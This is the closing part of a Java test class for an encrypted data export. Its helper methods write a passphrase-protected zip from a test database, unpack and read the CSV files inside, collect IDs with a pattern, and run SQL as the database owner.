    private static Path write(String organisation, Side side, Path file, Map<String, ExportChoice> choices) throws Exception {
        return write(organisation, side, file, choices, line -> {}, TestDatabase.SEAL);
    }

    private static Path write(String organisation, Side side, Path file, Map<String, ExportChoice> choices, Consumer<String> progress, Seal seal) throws Exception {
        try (Connection owner = OwnerSession.connect(TestDatabase.started().owner("restored"))) {
            new Export(owner, seal, progress, choices).to(file, organisation, side, PASSPHRASE);
        }
        return file;
    }

    private static Path unpack(Path file) throws ZipException {
        Path to = file.resolveSibling(file.getFileName() + ".unpacked");
        new ZipFile(file.toFile(), PASSPHRASE.toCharArray()).extractAll(to.toString());
        return to;
    }

    private static Map<String, List<NamedCsvRecord>> read(Path folder) throws IOException {
        Map<String, List<NamedCsvRecord>> files = new TreeMap<>();
        try (Stream<Path> all = Files.list(folder)) {
            for (Path one : all.filter(path -> path.toString().endsWith(".csv")).toList()) {
                try (CsvReader<NamedCsvRecord> lines = CsvReader.builder().ofNamedCsvRecord(one)) {
                    files.put(one.getFileName().toString(), lines.stream().toList());
                }
            }
        }
        return files;
    }

    private static List<String> heading(Path folder, String file) throws IOException {
        try (Stream<String> lines = Files.lines(folder.resolve("export.zip.unpacked").resolve(file))) {
            return List.of(lines.findFirst().orElse("").split(","));
        }
    }

    /** Every id that stands in it. */
    private static Set<String> ids(String text) {
        return ID.matcher(text).results().map(MatchResult::group).collect(Collectors.toSet());
    }

    private static String text(Path folder) throws IOException {
        StringBuilder text = new StringBuilder();
        try (Stream<Path> all = Files.list(folder)) {
            for (Path one : all.toList()) text.append(Files.readString(one)).append('\n');
        }
        return text.toString();
    }

    private static Map<String, List<Catalogue.Column>> tables() throws SQLException {
        try (Connection owner = OwnerSession.connect(TestDatabase.started().owner("alongside"))) {
            return new Catalogue(owner).columns();
        }
    }

    private static List<String> sided() throws SQLException {
        return tables().entrySet().stream().filter(table -> table.getValue().stream().anyMatch(column -> column.name().equals("side")) && table.getValue().stream().anyMatch(column -> column.name().equals("organisation_id"))).map(Map.Entry::getKey).toList();
    }

    private static UUID id(String sql) throws SQLException {
        return UUID.fromString(ask(sql).get(0));
    }

    private static Connection owner() throws SQLException {
        Connection owner = OwnerSession.connect(TestDatabase.started().owner("restored"));
        try (Statement statement = owner.createStatement()) {
            statement.execute("select set_config('alongside.actor', 'INSTALLER', false)");
        }
        return owner;
    }

    private static void change(String... statements) throws SQLException {
        try (Connection owner = owner(); Statement statement = owner.createStatement()) {
            for (String one : statements) statement.execute(one);
        }
    }

    private static List<String> ask(String sql) throws SQLException {
        try (Connection owner = owner(); Statement statement = owner.createStatement(); ResultSet rows = statement.executeQuery(sql)) {
            List<String> answers = new ArrayList<>();
            while (rows.next()) answers.add(rows.getString(1));
            return answers;
        }
    }

    /** In the middle of the work, and nothing that the command knows how to explain. */
    private static final class TheMachineFellOver extends RuntimeException {}
}
